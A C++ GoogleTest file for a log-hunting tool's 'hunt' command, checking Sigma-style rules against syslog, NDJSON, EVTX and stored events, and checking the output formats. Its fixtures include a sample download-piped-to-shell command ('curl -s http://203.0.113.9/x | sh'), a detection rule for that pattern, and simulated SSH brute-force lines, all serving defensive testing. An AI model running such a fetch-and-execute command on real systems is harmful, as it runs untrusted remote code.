// `vigil hunt` through the real binary: rules written here over syslog and NDJSON
// files (table, JSON lines, CSV), over stored history (--data), over an EVTX file of
// the public Sigma regression data with the rule its info.yml names; usage errors exit
// 2 with a message; malformed files are counted, never fatal. Also the pieces the
// command is made of: format sniffing and the time-ordered scan of a store.
#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>
#include <yaml-cpp/yaml.h>

#include <boost/json.hpp>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "cli/event_files.h"
#include "cli/stored_events.h"
#include "normalize/syslog_event.h"
#include "store/store.h"
#include "vigil_process.h"

namespace vigil {
namespace {

namespace fs = std::filesystem;
using namespace vigil::test;
namespace json = boost::json;

// Syslog dates have no year: hunt reads them as of the file's modification time,
// which the log files here get fixed so that the tests do not depend on today's date.
void write_log(const fs::path& p, std::string_view text) {
  write(p, text);
  const auto dec5 = std::chrono::sys_seconds(std::chrono::seconds(1'796'428'800));  // 2026-12-05T00:00:00Z
  fs::last_write_time(p, std::chrono::file_clock::from_sys(dec5));
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) out.push_back(line);
  return out;
}

// Failed passwords feed an event_count correlation (that alerts itself, `generate`),
// and a process rule that matches OCSF process events by their own field names.
constexpr const char* kFailedRule = R"(title: SSH failed password
id: 7b2e0000-0000-4000-8000-000000000001
name: ssh_failed_password
level: low
logsource: {product: linux, service: sshd}
detection:
  selection:
    class_uid: 3002
    status_id: 2
  condition: selection
)";
constexpr const char* kBruteRule = R"(title: SSH brute force
id: 7b2e0000-0000-4000-8000-000000000002
level: high
correlation:
  type: event_count
  rules: [ssh_failed_password]
  group-by: [src_endpoint.ip]
  timespan: 5m
  condition: {gte: 5}
  generate: true
)";
constexpr const char* kCurlRule = R"(title: Download piped to a shell
id: 7b2e0000-0000-4000-8000-000000000003
level: medium
logsource: {product: linux, category: process_creation}
detection:
  selection:
    process.cmd_line|contains|all: ['curl ', '| sh']
  condition: selection
)";

void write_rules(const fs::path& dir) {
  write(dir / "ssh_failed.yml", kFailedRule);
  write(dir / "ssh_brute.yml", kBruteRule);
  write(dir / "curl_sh.yml", kCurlRule);
}

// Five failures from one address (lines 1-3, 5-6; line 4 blank), a success, garbage.
constexpr const char* kAuthLog =
    "<38>Dec  4 03:00:01 web1 sshd[100]: Failed password for root from 203.0.113.5 port 50001 ssh2\n"
    "<38>Dec  4 03:00:02 web1 sshd[100]: Failed password for root from 203.0.113.5 port 50002 ssh2\n"
    "<38>Dec  4 03:00:03 web1 sshd[100]: Failed password for admin from 203.0.113.5 port 50003 ssh2\n"
    "\n"
    "<38>Dec  4 03:00:04 web1 sshd[100]: Failed password for root from 203.0.113.5 port 50004 ssh2\n"
    "<38>Dec  4 03:00:05 web1 sshd[100]: Failed password for root from 203.0.113.5 port 50005 ssh2\n"
    "<38>Dec  4 03:00:06 web1 sshd[100]: Accepted password for root from 203.0.113.5 port 50006 ssh2\n"
    "this line is not syslog\n";

// OCSF process launches on a Linux host; line 2 is broken JSON, line 3 matches.
constexpr const char* kProcNdjson =
    R"({"time":"2026-12-04T02:59:00Z","class_uid":1007,"activity_id":1,"device":{"hostname":"build7","os":{"type_id":200}},"actor":{"user":{"name":"ci"}},"process":{"cmd_line":"make -j2"}})"
    "\n"
    R"({"time": "2026-12-04T03:00:00Z", "class_uid": )"
    "\n"
    R"({"time":"2026-12-04T03:10:00Z","class_uid":1007,"activity_id":1,"device":{"hostname":"build7","os":{"type_id":200}},"actor":{"user":{"name":"mallory"}},"process":{"cmd_line":"curl -s http://203.0.113.9/x | sh"}})"
    "\n";

TEST(HuntCommand, SyslogAndNdjsonAsTable) {
  TempDir dir;
  write_rules(dir.path / "rules");
  write_log(dir.path / "auth.log", kAuthLog);
  write_log(dir.path / "proc.ndjson", kProcNdjson);
  const VigilRun r = vigil({"hunt", "--rules", (dir.path / "rules").string(), (dir.path / "auth.log").string(),
                       (dir.path / "proc.ndjson").string()});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto lines = lines_of(r.out);
  // Header, 5 failed passwords, the brute force (at the 5th failure), the download; by time.
  ASSERT_EQ(lines.size(), 8u) << r.out;
  EXPECT_EQ(lines[0].rfind("TIME", 0), 0u);
  EXPECT_NE(lines[0].find("ORIGIN"), std::string::npos);
  EXPECT_NE(lines[1].find("SSH failed password"), std::string::npos) << lines[1];
  EXPECT_NE(lines[1].find("auth.log:1"), std::string::npos) << lines[1];
  EXPECT_NE(lines[1].find("web1"), std::string::npos);
  EXPECT_NE(lines[1].find("203.0.113.5"), std::string::npos);
  EXPECT_NE(lines[3].find("admin"), std::string::npos) << lines[3];
  EXPECT_NE(lines[4].find("auth.log:5"), std::string::npos) << "line 4 is blank: " << lines[4];
  // The brute force fires at the fifth failure (line 6), with its count and group.
  const std::string& brute = lines[6];
  EXPECT_NE(brute.find("SSH brute force"), std::string::npos) << r.out;
  EXPECT_NE(brute.find("high"), std::string::npos);
  EXPECT_NE(brute.find("7b2e0000-0000-4000-8000-000000000002"), std::string::npos);
  EXPECT_NE(brute.find("5 events; src_endpoint.ip=203.0.113.5"), std::string::npos) << brute;
  EXPECT_NE(brute.find("auth.log:6"), std::string::npos) << brute;
  EXPECT_NE(lines[7].find("Download piped to a shell"), std::string::npos) << lines[7];
  EXPECT_NE(lines[7].find("mallory"), std::string::npos);
  EXPECT_NE(lines[7].find("curl -s http://203.0.113.9/x | sh"), std::string::npos);
  EXPECT_NE(lines[7].find("proc.ndjson:3"), std::string::npos);
  // The summary.
  EXPECT_NE(r.err.find("hunt: 2 files, 10 events, 2 parse errors"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("auth.log:8: "), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("rules: 3 loaded in "), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(" s (2 rules, 1 correlation), 0 refused, 0 warnings"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("alerts: 7 (high 1, medium 1, low 5)"), std::string::npos) << r.err;
}

TEST(HuntCommand, JsonLinesCarryTheFinding) {
  TempDir dir;
  write_rules(dir.path / "rules");
  write_log(dir.path / "auth.log", kAuthLog);
  write_log(dir.path / "proc.ndjson", kProcNdjson);
  const VigilRun r = vigil({"hunt", "--rules", (dir.path / "rules").string(), "--format", "json", "--min-level", "medium",
                       (dir.path / "auth.log").string(), (dir.path / "proc.ndjson").string()});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto lines = lines_of(r.out);
  ASSERT_EQ(lines.size(), 2u) << r.out;
  const json::object brute = json::parse(lines[0]).as_object();
  EXPECT_EQ(brute.at("time").as_string(), "2026-12-04T03:00:05.000Z");
  const json::object& f = brute.at("fields").as_object();
  EXPECT_EQ(f.at("class_uid").as_int64(), 2004);
  EXPECT_EQ(f.at("finding_info.title").as_string(), "SSH brute force");
  EXPECT_EQ(f.at("finding_info.analytic.uid").as_string(), "7b2e0000-0000-4000-8000-000000000002");
  EXPECT_EQ(f.at("severity").as_string(), "High");
  EXPECT_EQ(f.at("unmapped.correlation.count").as_int64(), 5);
  EXPECT_EQ(f.at("unmapped.correlation.group.src_endpoint.ip").as_string(), "203.0.113.5");
  EXPECT_EQ(f.at("src_endpoint.ip").as_string(), "203.0.113.5");
  EXPECT_EQ(f.at("unmapped.event.line").as_int64(), 6);
  EXPECT_EQ(brute.at("source").as_string(), (dir.path / "auth.log").string());
  const json::object curl = json::parse(lines[1]).as_object();
  const json::object& g = curl.at("fields").as_object();
  EXPECT_EQ(g.at("process.cmd_line").as_string(), "curl -s http://203.0.113.9/x | sh");
  EXPECT_EQ(g.at("device.hostname").as_string(), "build7");
  EXPECT_EQ(g.at("unmapped.event.line").as_int64(), 3);
  EXPECT_NE(curl.at("raw").as_string().find("mallory"), json::string::npos);
  EXPECT_NE(r.err.find("shown: 2 at level medium or above"), std::string::npos) << r.err;
}

TEST(HuntCommand, CsvHasAHeaderAndEveryAlert) {
  TempDir dir;
  write_rules(dir.path / "rules");
  write_log(dir.path / "auth.log", kAuthLog);
  const VigilRun r = vigil({"hunt", "--rules", (dir.path / "rules").string(), "--format", "csv", (dir.path / "auth.log").string()});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto lines = lines_of(r.out);
  ASSERT_EQ(lines.size(), 7u) << r.out;
  EXPECT_EQ(lines[0], "time,level,rule_id,title,kind,host,user,src_ip,dst_ip,process,count,group,tenant,source,line,record");
  EXPECT_EQ(lines[1], "2026-12-04T03:00:01.000Z,low,7b2e0000-0000-4000-8000-000000000001,SSH failed password,rule,web1,"
                      "root,203.0.113.5,,,,,default," + (dir.path / "auth.log").string() + ",1,");
  EXPECT_EQ(lines[6], "2026-12-04T03:00:05.000Z,high,7b2e0000-0000-4000-8000-000000000002,SSH brute force,correlation,"
                      "web1,root,203.0.113.5,,,5,src_endpoint.ip=203.0.113.5,default," +
                          (dir.path / "auth.log").string() + ",6,")
      << r.out;
}

TEST(HuntCommand, TimeRangeAndTenant) {
  TempDir dir;
  write_rules(dir.path / "rules");
  write_log(dir.path / "auth.log", kAuthLog);
  // Only the first three failures: no brute force.
  const VigilRun r = vigil({"hunt", "--rules", (dir.path / "rules").string(), "--format", "csv", "--to",
                       "2026-12-04T03:00:03Z", "--tenant", "acme", (dir.path / "auth.log").string()});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto lines = lines_of(r.out);
  ASSERT_EQ(lines.size(), 4u) << r.out;
  EXPECT_NE(lines[3].find(",acme,"), std::string::npos) << lines[3];
}

TEST(HuntCommand, UsageErrorsExitTwoWithAMessage) {
  TempDir dir;
  write_rules(dir.path / "rules");
  write_log(dir.path / "auth.log", kAuthLog);
  const std::string rules = (dir.path / "rules").string(), log = (dir.path / "auth.log").string();
  struct Case {
    std::vector<std::string> args;
    std::string message;
  };
  const Case cases[] = {
      {{"hunt", "--rules", rules, (dir.path / "missing.log").string()}, "missing.log: no such file or folder"},
      {{"hunt", "--rules", (dir.path / "no-rules").string(), log}, "no-rules: no such rule file or folder"},
      {{"hunt", log}, "--rules is required"},
      {{"hunt", "--rules", rules}, "nothing to hunt in"},
      {{"hunt", "--rules", rules, "--format", "xml", log}, "--format must be table, csv or json"},
      {{"hunt", "--rules", rules, "--min-level", "severe", log}, "--min-level must be"},
      {{"hunt", "--rules", rules, "--from", "yesterday", log}, "bad --from 'yesterday'"},
      {{"hunt", "--rules", rules, "--frobnicate", log}, "unknown argument '--frobnicate'"},
      {{"hunt", "--rules", rules, "--data", (dir.path / "no-data").string()}, "no data directory"},
  };
  for (const Case& c : cases) {
    const VigilRun r = vigil(c.args);
    EXPECT_EQ(r.exit_code, 2) << c.message << ": " << r.err;
    EXPECT_NE(r.err.find(c.message), std::string::npos) << r.err;
    EXPECT_TRUE(r.out.empty()) << r.out;
  }
}

TEST(HuntCommand, MalformedFilesAreCountedNotFatal) {
  TempDir dir;
  write_rules(dir.path / "rules");
  std::string junk;
  for (int i = 0; i < 5000; ++i) junk += static_cast<char>((i * 7919) % 256);
  write(dir.path / "broken.evtx", "ElfFile" + junk);
  write(dir.path / "events.json", "{\"Event\": {\"System\": {\"EventID\": 4624, ");
  write(dir.path / "binary.log", junk);
  write(dir.path / "empty.log", "");
  const VigilRun r = vigil({"hunt", "--rules", (dir.path / "rules").string(), "-v", (dir.path / "broken.evtx").string(),
                       (dir.path / "events.json").string(), (dir.path / "binary.log").string(),
                       (dir.path / "empty.log").string()});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_TRUE(r.out.empty()) << r.out;
  EXPECT_NE(r.err.find("hunt: 4 files"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("broken.evtx: evtx, 0 events, 1 parse error"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("events.json: windows-json, 1 event, 1 parse error"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("alerts: 0"), std::string::npos) << r.err;
}

TEST(HuntCommand, StoredHistoryInTimeOrder) {
  TempDir dir;
  write_rules(dir.path / "rules");
  const fs::path data = dir.path / "data";
  {
    StoreOptions o;
    o.dir = data;
    o.sync = false;
    auto store = Store::open(o);
    ASSERT_TRUE(store.ok()) << store.error();
    // Two tenants' failures, written newest first: the correlation needs them in order
    // only in its own window, but the output must be a timeline.
    const auto lines = lines_of(kAuthLog);
    for (const char* tenant : {"acme", "globex"}) {
      EventBatch b;
      for (auto it = lines.rbegin(); it != lines.rend(); ++it) {
        if (it->empty()) continue;
        const Provenance p{.receive_time = *parse_rfc3339("2026-12-05T00:00:00Z"), .source = "10.0.0.1:514",
                           .input = "syslog-udp", .tenant = tenant};
        append_syslog_event(*it, p, b);
      }
      ASSERT_TRUE((*store)->append_sync(std::move(b)).ok());
    }
    ASSERT_TRUE((*store)->flush().ok());
  }
  const std::string rules = (dir.path / "rules").string();
  const VigilRun all = vigil({"hunt", "--data", data.string(), "--rules", rules, "--format", "csv"});
  ASSERT_EQ(all.exit_code, 0) << all.err;
  const auto rows = lines_of(all.out);
  ASSERT_EQ(rows.size(), 13u) << all.out;  // 2 x (5 failures + 1 brute force)
  for (size_t i = 2; i < rows.size(); ++i) EXPECT_LE(rows[i - 1].substr(0, 24), rows[i].substr(0, 24)) << all.out;
  EXPECT_NE(all.err.find("hunt: data " + data.string() + ", 14 events"), std::string::npos) << all.err;

  const VigilRun one = vigil({"hunt", "--data", data.string(), "--rules", rules, "--tenant", "globex", "--min-level", "high"});
  ASSERT_EQ(one.exit_code, 0) << one.err;
  const auto table = lines_of(one.out);
  ASSERT_EQ(table.size(), 2u) << one.out;
  EXPECT_NE(table[0].find("TENANT"), std::string::npos) << one.out;
  EXPECT_NE(table[1].find("globex"), std::string::npos);
  EXPECT_NE(table[1].find("syslog-udp 10.0.0.1:514"), std::string::npos) << table[1];
}

// The rule file whose id is `id`, under the public rule folders.
fs::path find_rule(const fs::path& sigma, const std::string& id) {
  for (const char* folder : {"rules", "rules-emerging-threats", "rules-threat-hunting"}) {
    for (const auto& e : fs::recursive_directory_iterator(sigma / folder)) {
      if (!e.is_regular_file() || e.path().extension() != ".yml") continue;
      if (slurp(e.path()).find("id: " + id) != std::string::npos) return e.path();
    }
  }
  return {};
}

TEST(HuntCommand, EvtxOfThePublicRegressionData) {
  const fs::path sigma = fs::path(VIGIL_CORPUS_DIR) / "sigma";
  const fs::path info =
      sigma / "regression_data/rules-emerging-threats/2025/Malware/Grixba/proc_creation_win_malware_grixba_recon/info.yml";
  if (!fs::exists(info))
    GTEST_SKIP() << "Sigma corpus not found at " << sigma << " (needs ../shared/corpus): EVTX hunt not checked";
  const YAML::Node y = YAML::LoadFile(info.string());
  const std::string id = y["rule_metadata"][0]["id"].as<std::string>();
  const std::string title = y["rule_metadata"][0]["title"].as<std::string>();
  const fs::path evtx = sigma / y["regression_tests_info"][0]["path"].as<std::string>();
  const fs::path rule = find_rule(sigma, id);
  ASSERT_FALSE(rule.empty()) << "no rule with id " << id;

  const VigilRun r = vigil({"hunt", "--rules", rule.string(), "--format", "json", evtx.string()});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto lines = lines_of(r.out);
  ASSERT_EQ(lines.size(), 1u) << r.out << r.err;
  const json::object alert = json::parse(lines[0]).as_object();
  const json::object& f = alert.at("fields").as_object();
  EXPECT_EQ(f.at("finding_info.title").as_string(), title);
  EXPECT_EQ(f.at("finding_info.analytic.uid").as_string(), id);
  EXPECT_TRUE(f.contains("unmapped.event.record")) << lines[0];
  EXPECT_TRUE(f.contains("process.cmd_line")) << lines[0];
  EXPECT_NE(r.err.find("hunt: 1 file, 1 event, 0 parse errors"), std::string::npos) << r.err;

  // The same through a folder argument and the table.
  const VigilRun t = vigil({"hunt", "--rules", rule.string(), evtx.parent_path().string()});
  ASSERT_EQ(t.exit_code, 0) << t.err;
  EXPECT_NE(t.out.find(title), std::string::npos) << t.out;
  EXPECT_NE(t.err.find("alerts: 2 (high 2)"), std::string::npos) << "EVTX and its JSON twin: " << t.err;
}

TEST(EventFiles, FormatIsSniffedFromNameAndFirstBytes) {
  EXPECT_EQ(sniff_event_format("Security.EVTX", ""), EventFormat::Evtx);
  EXPECT_EQ(sniff_event_format("x.bin", std::string("ElfFile\0\0\0", 10)), EventFormat::Evtx);
  EXPECT_EQ(sniff_event_format("a.json", "{\n  \"Event\": {\n    \"System\": {}}}"), EventFormat::WindowsJson);
  EXPECT_EQ(sniff_event_format("a.json", "Record 1\n{\"Event\":{}}"), EventFormat::WindowsJson);
  EXPECT_EQ(sniff_event_format("a.json", "[{\"Event\":{}}]"), EventFormat::WindowsJson);
  EXPECT_EQ(sniff_event_format("a.json", "{\"x\":{\"Event\":1}}\n"), EventFormat::Ndjson);
  EXPECT_EQ(sniff_event_format("a.json", "{\"msg\":\"\\\"Event\\\": 1\"}"), EventFormat::Ndjson);
  EXPECT_EQ(sniff_event_format("a.log", "\xEF\xBB\xBF{\"time\":1}"), EventFormat::Ndjson);
  EXPECT_EQ(sniff_event_format("a.log", "<34>Oct 11 22:14:15 mymachine su: 'su root' failed"), EventFormat::Syslog);
  EXPECT_EQ(sniff_event_format("a.log", ""), EventFormat::Syslog);
}

TEST(StoredEvents, ScanIsInTimeOrderAcrossWindows) {
  TempDir dir;
  StoreOptions o;
  o.dir = dir.path;
  o.sync = false;
  auto store = Store::open(o);
  ASSERT_TRUE(store.ok()) << store.error();
  const TimeNs t0 = *parse_rfc3339("2026-12-04T00:00:00Z");
  // Three batches of events spread over 3 hours, each batch newest first.
  for (int b = 0; b < 3; ++b) {
    EventBatch batch;
    for (int i = 99; i >= 0; --i) {
      const TimeNs t = t0 + (i * 3 + b) * 37 * kNsPerSec;
      batch.begin_event({.receive_time = t, .raw = "x", .input = "test", .tenant = b == 2 ? "other" : "default"});
      batch.set_time(t);
      batch.end_event();
    }
    ASSERT_TRUE((*store)->append_sync(std::move(batch)).ok());
  }
  ASSERT_TRUE((*store)->flush().ok());
  StoredScan scan{.batch_size = 16, .window_events = 40};
  StoredScanStats stats;
  std::vector<TimeNs> times;
  ASSERT_TRUE(scan_in_time_order(**store, scan, [&](EventBatch& b) {
    EXPECT_LE(b.size(), 16u);
    for (const Event& e : b.events()) times.push_back(e.time);
  }, stats).ok());
  EXPECT_EQ(times.size(), 300u);
  EXPECT_TRUE(std::is_sorted(times.begin(), times.end()));
  EXPECT_GT(stats.windows, 3u);

  scan.tenant = "other";
  scan.from = t0 + 3600 * kNsPerSec;
  times.clear();
  ASSERT_TRUE(scan_in_time_order(**store, scan, [&](EventBatch& b) {
    for (const Event& e : b.events()) {
      EXPECT_EQ(e.tenant, "other");
      times.push_back(e.time);
    }
  }, stats).ok());
  EXPECT_TRUE(std::is_sorted(times.begin(), times.end()));
  EXPECT_FALSE(times.empty());
  EXPECT_GE(times.front(), scan.from);
}

}  // namespace
}  // namespace vigil
